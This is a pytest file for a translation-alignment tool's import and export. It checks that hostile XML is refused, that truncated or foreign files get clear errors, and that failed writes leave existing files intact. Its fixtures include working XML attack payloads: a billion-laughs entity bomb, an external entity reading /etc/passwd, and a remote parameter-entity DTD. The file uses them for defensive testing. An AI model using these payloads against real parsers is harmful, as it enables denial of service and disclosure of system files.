"""Bad input: malicious XML is refused, truncated and foreign files get a message naming what is
wrong, and an existing output file is never half-overwritten."""
from __future__ import annotations

import os
from pathlib import Path

import pytest

from compare.export import export_comparison, import_alignment, to_bytes
from compare.export.safe_write import safe_write
from compare.model import InputError
from test_export_cases import bridge_comparison

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE tmx [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<tmx version="1.4"><header creationtool="x" creationtoolversion="1" segtype="sentence"
o-tmf="x" adminlang="en" srclang="en" datatype="plaintext"/><body><tu>
<tuv xml:lang="en"><seg>&lol3;</seg></tuv><tuv xml:lang="ru"><seg>да</seg></tuv></tu></body></tmx>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE tmx [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<tmx version="1.4"><header creationtool="x" creationtoolversion="1" segtype="sentence"
o-tmf="x" adminlang="en" srclang="en" datatype="plaintext"/><body><tu>
<tuv xml:lang="en"><seg>&secret;</seg></tuv><tuv xml:lang="ru"><seg>да</seg></tuv></tu></body></tmx>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE tmx [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<tmx version="1.4"><body/></tmx>
"""
UNDECLARED_ENTITY_WITH_REMOTE_DTD = """<?xml version="1.0"?>
<!DOCTYPE tmx SYSTEM "http://example.invalid/tmx14.dtd">
<tmx version="1.4"><header creationtool="x" creationtoolversion="1" segtype="sentence"
o-tmf="x" adminlang="en" srclang="en" datatype="plaintext"/><body><tu>
<tuv xml:lang="en"><seg>&defined_elsewhere;</seg></tuv></tu></body></tmx>
"""


@pytest.mark.parametrize("name, content, message", [
    ("laughs.tmx", BILLION_LAUGHS, "refused: its DOCTYPE declares entities"),
    ("xxe.tmx", EXTERNAL_ENTITY, "refused: its DOCTYPE declares entities (secret)"),
    ("param.tmx", PARAMETER_ENTITY, "refused: its DOCTYPE declares entities (remote)"),
    ("remote.tmx", UNDECLARED_ENTITY_WITH_REMOTE_DTD, "refused: it refers to entities"),
    ("laughs.xlf", BILLION_LAUGHS.replace("<tmx", "<xliff").replace("</tmx>", "</xliff>"),
     "refused: its DOCTYPE declares entities"),
])
def test_malicious_xml_is_refused_with_a_message(tmp_path, name, content, message):
    path = tmp_path / name
    path.write_text(content, encoding="utf-8")
    with pytest.raises(InputError) as error:
        import_alignment(path)
    assert str(error.value).startswith(str(path)) and message in str(error.value)


def test_an_intertext_document_with_entities_is_refused(tmp_path):
    export_comparison(bridge_comparison(), "intertext", tmp_path / "a.xml", pair=("ru", "en"))
    (tmp_path / "vitebsk-bridge.en.xml").write_text(
        EXTERNAL_ENTITY.replace("tmx", "text"), encoding="utf-8")
    with pytest.raises(InputError, match="vitebsk-bridge.en.xml: refused"):
        import_alignment(tmp_path / "a.xml")


def cut(data: bytes, keep: float = 0.6) -> bytes:
    return data[: int(len(data) * keep)]


@pytest.mark.parametrize("fmt, suffix, message", [
    ("tmx", ".tmx", "not well-formed XML"),
    ("xliff", ".xlf", "not well-formed XML"),
    ("jsonl", ".jsonl", "not valid JSON"),
    ("xlsx", ".xlsx", "not an XLSX workbook"),
    # where 60 % falls decides which CSV check speaks first (a cut row or a cut record cell)
    ("csv", ".csv", "— truncated"),
])
def test_a_truncated_file_gets_a_message_naming_it(tmp_path, fmt, suffix, message):
    path = tmp_path / f"cut{suffix}"
    path.write_bytes(cut(to_bytes(bridge_comparison(), fmt, pair=("ru", "en"))))
    with pytest.raises(InputError) as error:
        import_alignment(path)
    assert str(error.value).startswith(str(path)) and message in str(error.value)


def test_a_truncated_tmx_says_it_looks_truncated(tmp_path):
    path = tmp_path / "cut.tmx"
    path.write_bytes(cut(to_bytes(bridge_comparison(), "tmx", include_null=True)))
    with pytest.raises(InputError, match="looks truncated"):
        import_alignment(path)


@pytest.mark.parametrize("name, content, message", [
    ("page.xml", "<html><body><p>news</p></body></html>", "not TMX, XLIFF or an InterText"),
    ("page.tmx", "<html><body><p>news</p></body></html>", "not a TMX file (the root element "
                                                           "is <html>, not <tmx>)"),
    ("empty.tmx", "", "the file is empty"),
    ("notes.txt", "just some words\n", "cannot tell its format"),
    ("table.csv", "id,text\n1,hello\n", "needs at least two columns named by language"),
    ("lines.jsonl", '{"event": "click"}\n', "not a record of this tool"),
    ("one.csv", "en,de\nhello,hallo\n", "needs at least two columns named by language"),
    ("half.csv", "en,ru\nhello,\n", "fewer than two of en, ru, be have text"),
    ("nobody.tmx", '<tmx version="1.4"><header/></tmx>', "without <body>"),
    ("de.xlf", '<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2"><file '
               'original="x" source-language="de" target-language="fr" datatype="plaintext">'
               '<body/></file></xliff>', "this tool reads en, ru and be"),
])
def test_a_foreign_file_gets_a_message_naming_what_is_wrong(tmp_path, name, content, message):
    path = tmp_path / name
    path.write_text(content, encoding="utf-8")
    with pytest.raises(InputError) as error:
        import_alignment(path)
    assert str(error.value).startswith(str(path)) and message in str(error.value)


def test_a_zip_that_is_not_a_workbook_nor_intertext(tmp_path):
    import zipfile

    path = tmp_path / "photos.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("a.jpg", b"\xff\xd8\xff")
    with pytest.raises(InputError, match="no InterText alignment"):
        import_alignment(path)


@pytest.mark.parametrize("line, message", [
    ("0\t7\n", "link 1 points at ru segment 7, but the ru file has 4"),
    ("0\t0\n0\t1\n", r"en segment 0 is in two links \(again in link 2\)"),
    ("zero\t0\n", "line 1: ids must be whole numbers"),
    ("0 1\n", "line 1: expected SRC_IDS<TAB>TGT_IDS"),
    ("0\t0\n\t\n", "line 2: both sides are empty"),
])
def test_a_bad_tsv_alignment_names_the_line_and_the_problem(tmp_path, line, message):
    folder = Path(__file__).resolve().parent / "data" / "export" / "tsv"
    path = tmp_path / "en-ru.tsv"
    path.write_text(line, encoding="utf-8")
    with pytest.raises(InputError, match=message):
        import_alignment(path, src_segments=folder / "en.txt", tgt_segments=folder / "ru.txt",
                         check_lang=False)


def test_a_tsv_without_its_segment_files_says_what_it_needs(tmp_path):
    path = tmp_path / "en-ru.tsv"
    path.write_text("0\t0\n", encoding="utf-8")
    with pytest.raises(InputError, match="needs its two segment files"):
        import_alignment(path)


def test_a_missing_file_is_named(tmp_path):
    with pytest.raises(InputError, match="no such file"):
        import_alignment(tmp_path / "absent.tmx")


# ---------------------------------------------------------------- never half-overwritten

def test_a_failed_write_leaves_the_old_file_whole(tmp_path, monkeypatch):
    path = tmp_path / "memory.tmx"
    path.write_bytes(b"the translator's own memory")

    def broken_replace(src, dst):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", broken_replace)
    with pytest.raises(InputError, match="could not be written .* existing file is unchanged"):
        export_comparison(bridge_comparison(), "tmx", path)
    assert path.read_bytes() == b"the translator's own memory"
    assert os.listdir(tmp_path) == ["memory.tmx"]  # no temporary file left behind


def test_an_export_that_fails_before_writing_leaves_the_old_file_whole(tmp_path):
    path = tmp_path / "memory.tmx"
    path.write_bytes(b"the translator's own memory")
    with pytest.raises(InputError, match="no en-be alignment"):
        export_comparison(bridge_comparison(with_rows=False).__class__(
            story=bridge_comparison().story, alignments={}), "tmx", path, pair=("en", "be"))
    assert path.read_bytes() == b"the translator's own memory"


def test_an_interrupted_write_leaves_the_old_file_whole(tmp_path, monkeypatch):
    path = tmp_path / "memory.csv"
    path.write_bytes(b"old")
    real_fdopen = os.fdopen

    class Interrupted(Exception):
        pass

    def fdopen(*args, **kwargs):
        handle = real_fdopen(*args, **kwargs)

        class HalfWay:
            def __enter__(self):
                return self

            def __exit__(self, *exc):
                handle.close()

            def write(self, data):
                handle.write(data[: len(data) // 2])
                raise Interrupted()

        return HalfWay()

    monkeypatch.setattr(os, "fdopen", fdopen)
    with pytest.raises(Interrupted):
        safe_write(path, b"new content that never arrives whole")
    assert path.read_bytes() == b"old"
    assert os.listdir(tmp_path) == ["memory.csv"]


def test_writing_into_a_missing_folder_is_a_clear_error(tmp_path):
    with pytest.raises(InputError, match="does not exist"):
        export_comparison(bridge_comparison(), "csv", tmp_path / "no" / "such" / "x.csv")


def test_an_overwritten_file_keeps_its_permissions(tmp_path):
    path = tmp_path / "shared.jsonl"
    path.write_text("old")
    path.chmod(0o640)
    export_comparison(bridge_comparison(), "jsonl", path)
    assert path.stat().st_mode & 0o777 == 0o640
    assert path.read_text(encoding="utf-8").startswith('{"type":"story"')
